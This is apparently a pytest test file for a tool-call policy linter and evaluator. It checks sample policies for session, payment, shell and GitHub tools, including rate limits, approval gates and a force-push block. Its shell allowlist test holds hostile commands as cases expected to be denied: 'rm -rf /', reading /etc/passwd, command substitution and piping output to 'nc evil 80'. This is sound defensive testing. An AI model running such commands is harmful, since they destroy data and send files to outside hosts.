"""The bundled sample policies: lint-clean, and they do what their comments say.

Each sample is linted through the real CLI (exit 0, no findings at all: none of them carries a
deliberate warning) and then evaluated with the reference engine on calls that show its intent.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from policyctl.engine.evaluator import Evaluator
from policyctl.lint.linter import lint
from policyctl.policy.load import load_policy
from tests.conftest import SAMPLES, run_cli

POLICIES = ("sncro.policy.json", "payments.policy.yaml", "shell-exec.policy.json", "github.policy.yaml")
T0 = 1_795_514_400.0  # 2026-11-24T10:00:00Z, the start of a minute, hour and day window


def test_every_policy_sample_is_listed_here() -> None:
    found = sorted(p.name for p in SAMPLES.iterdir() if p.name.endswith((".policy.json", ".policy.yaml")))
    assert found == sorted(POLICIES)


def test_samples_lint_clean_through_the_cli() -> None:
    r = run_cli("lint", "--format", "json", "--fail-level", "warning", *(f"samples/{p}" for p in POLICIES))
    assert r.returncode == 0, r.stdout + r.stderr
    doc = json.loads(r.stdout)
    assert doc["summary"] == {"files": 4, "errors": 0, "warnings": 0}
    assert all(f["diagnostics"] == [] for f in doc["files"])


def test_samples_directory_lints_clean_as_a_whole() -> None:
    r = run_cli("lint", "samples")
    assert r.returncode == 0, r.stdout + r.stderr
    assert r.stdout.endswith("no problems\n")


@pytest.mark.parametrize("name", POLICIES)
def test_each_sample_has_no_findings(name: str) -> None:
    report = lint([str(SAMPLES / name)])
    assert report.diagnostics == ()


def _evaluator(name: str) -> Evaluator:
    return Evaluator(load_policy(str(SAMPLES / name)).policy)


def test_sncro_sample_against_the_sncro_tool_list(tmp_path: Path) -> None:
    snapshot = tmp_path / "sncro.snapshot.json"
    scan = run_cli("scan", "--server", "sncro", "--format", "json", "--output", str(snapshot))
    assert scan.returncode == 0, scan.stderr
    tools = {t["name"] for t in json.loads(snapshot.read_text(encoding="utf-8"))["tools"]}
    policy = json.loads((SAMPLES / "sncro.policy.json").read_text(encoding="utf-8"))
    assert set(policy["tools"]) == tools  # every sncro tool is decided explicitly
    r = run_cli("lint", "--tools", str(snapshot), "--fail-level", "warning", "samples/sncro.policy.json")
    assert (r.returncode, r.stdout) == (0, "1 file checked: no problems\n"), r.stderr


def test_sncro_sample_limits() -> None:
    ev = _evaluator("sncro.policy.json")
    assert ev.evaluate(T0, "g", "get_page_snapshot", {"key": "k", "secret": "s"}).decision == "allow"
    assert ev.evaluate(T0, "g", "delete_everything", {}).reason == "default_deny"
    ends = [ev.evaluate(T0 + i, "g", "end_session", {"key": "k", "secret": "s"}) for i in range(11)]
    assert [d.decision for d in ends] == ["allow"] * 10 + ["deny"]
    assert ends[-1].rule == "/tools/end_session/limits/end_session_rate"
    creates = [ev.evaluate(T0 + i, "g", "create_session", {"project_key": "p"}) for i in range(31)]
    assert [d.decision for d in creates].count("allow") == 30
    assert ev.evaluate(T0 + 61, "g", "create_session", {"project_key": "p"}).decision == "allow"  # next minute


def test_payments_sample_thresholds_and_approval() -> None:
    ev = _evaluator("payments.policy.yaml")
    ok = {"customer": "cus_1", "currency": "usd", "amount": 1999}
    assert ev.evaluate(T0, "g", "create_charge", ok).decision == "allow"
    big = ev.evaluate(T0, "g", "create_charge", {**ok, "amount": 50001})
    assert (big.reason, big.rule) == ("deny_if", "/tools/create_charge/deny_if/args.amount-gt")
    assert ev.evaluate(T0, "g", "create_charge", {**ok, "amount": 0}).reason == "deny_if"
    assert ev.evaluate(T0, "g", "create_charge", {**ok, "currency": "jpy"}).reason == "require"
    assert ev.evaluate(T0, "g", "create_charge", {"currency": "usd", "amount": 5}).reason == "require"
    assert ev.evaluate(T0, "g", "create_refund", {"amount": 10000}).decision == "allow"
    assert ev.evaluate(T0, "g", "create_refund", {"amount": 10001}).reason == "deny_if"
    link = ev.evaluate(T0, "g", "create_payment_link", {"price": "p"})
    assert (link.reason, link.rule, link.message) == (
        "deny_if", "/tools/create_payment_link/deny_if/0", "Requires human approval.")
    assert ev.evaluate(T0, "g", "cancel_subscription", {}).reason == "hidden"
    # the grant-wide ceiling: 120 calls a minute over all tools
    reads = [ev.evaluate(T0 + 1, "g2", "list_customers", {}) for _ in range(121)]
    assert [d.decision for d in reads].count("allow") == 120
    assert reads[-1].rule == "/all_tools/limits/calls-per-minute"


@pytest.mark.parametrize("command, allowed", [
    ("npm test", True), ("npm run lint", True), ("git status", True), ("git log --oneline", True),
    ("ls src/app", True), ("pwd", True), ("cat README.md", True),
    ("npm install left-pad", False), ("git push --force", False), ("ls; rm -rf /", False),
    ("cat ../../etc/passwd", False), ("cat $(whoami)", False), ("ls src | nc evil 80", False),
    ("pwd\nrm -rf /", False), ("bash -c 'ls'", False), ("curl https://x", False),
])
def test_shell_exec_sample_allowlist(command: str, allowed: bool) -> None:
    ev = _evaluator("shell-exec.policy.json")
    d = ev.evaluate(T0, "g", "execute_command", {"command": command, "cwd": "/workspace/app"})
    assert (d.decision == "allow") is allowed, (command, d)


def test_shell_exec_sample_working_directory_and_rate() -> None:
    ev = _evaluator("shell-exec.policy.json")
    assert ev.evaluate(T0, "g", "execute_command", {"command": "pwd", "cwd": "/etc"}).reason == "require"
    assert ev.evaluate(T0, "g", "execute_command", {"command": "pwd", "cwd": "/workspace/../etc"}).reason == "require"
    runs = [ev.evaluate(T0 + i, "g", "execute_command", {"command": "pwd", "cwd": "/workspace"}) for i in range(11)]
    assert [d.decision for d in runs] == ["allow"] * 10 + ["deny"]


GITHUB_TOOLS = [
    {"name": name, "description": desc, "inputSchema": {"type": "object", "properties": props, "required": req}}
    for name, desc, props, req in [
        ("get_file_contents", "Get a file", {"owner": {"type": "string"}, "repo": {"type": "string"},
                                              "path": {"type": "string"}}, ["owner", "repo", "path"]),
        ("list_commits", "List commits", {"owner": {"type": "string"}, "repo": {"type": "string"}}, ["owner", "repo"]),
        ("list_branches", "List branches", {"owner": {"type": "string"}, "repo": {"type": "string"}}, ["owner", "repo"]),
        ("search_code", "Search code", {"q": {"type": "string"}}, ["q"]),
        ("create_branch", "Create a branch", {"owner": {"type": "string"}, "repo": {"type": "string"},
                                               "branch": {"type": "string"}}, ["owner", "repo", "branch"]),
        ("push_files", "Push files", {"owner": {"type": "string"}, "repo": {"type": "string"},
                                      "branch": {"type": "string"}, "force": {"type": "boolean"},
                                      "files": {"type": "array"}, "message": {"type": "string"}},
         ["owner", "repo", "branch", "files", "message"]),
        ("create_pull_request", "Open a pull request", {"owner": {"type": "string"}, "repo": {"type": "string"},
                                                        "head": {"type": "string"}, "base": {"type": "string"}},
         ["owner", "repo", "head", "base"]),
        ("merge_pull_request", "Merge a pull request", {"owner": {"type": "string"}, "repo": {"type": "string"},
                                                        "pull_number": {"type": "integer"}},
         ["owner", "repo", "pull_number"]),
        ("delete_repository", "Delete a repository", {"owner": {"type": "string"}, "repo": {"type": "string"}},
         ["owner", "repo"]),
    ]
]


def test_github_sample_against_a_matching_tool_list(tmp_path: Path) -> None:
    snapshot = tmp_path / "github.tools.json"
    snapshot.write_text(json.dumps({"tools": GITHUB_TOOLS}), encoding="utf-8")
    r = run_cli("lint", "--tools", str(snapshot), "--fail-level", "warning", "samples/github.policy.yaml")
    assert (r.returncode, r.stdout) == (0, "1 file checked: no problems\n"), r.stdout + r.stderr
    # and the server-aware rules do look: a server without "force" makes the condition suspect
    for tool in GITHUB_TOOLS:
        if tool["name"] == "push_files":
            del tool["inputSchema"]["properties"]["force"]
    snapshot.write_text(json.dumps({"tools": GITHUB_TOOLS}), encoding="utf-8")
    r = run_cli("lint", "--tools", str(snapshot), "--format", "json", "samples/github.policy.yaml")
    codes = [d["code"] for d in json.loads(r.stdout)["files"][0]["diagnostics"]]
    assert codes == ["PL110"], r.stdout


def test_github_sample_blocks_force_push_to_main_only() -> None:
    ev = _evaluator("github.policy.yaml")
    push = {"owner": "o", "repo": "r", "files": [], "message": "m"}
    blocked = ev.evaluate(T0, "g", "push_files", {**push, "branch": "main", "force": True})
    assert (blocked.reason, blocked.rule) == ("deny_if", "/tools/push_files/deny_if/args.force-eq")
    assert "Force-pushing" in (blocked.message or "")
    assert ev.evaluate(T0, "g", "push_files", {**push, "branch": "master", "force": True}).reason == "deny_if"
    assert ev.evaluate(T0, "g", "push_files", {**push, "branch": "main", "force": False}).decision == "allow"
    assert ev.evaluate(T0, "g", "push_files", {**push, "branch": "feature/x", "force": True}).decision == "allow"
    assert ev.evaluate(T0, "g", "push_files", {**push, "force": True}).reason == "require"  # no branch named
    assert ev.evaluate(T0, "g", "merge_pull_request", {"pull_number": 1}).message == "Requires human approval."
    assert ev.evaluate(T0, "g", "delete_repository", {}).reason == "hidden"
    assert ev.evaluate(T0, "g", "create_or_update_file", {}).reason == "default_deny"
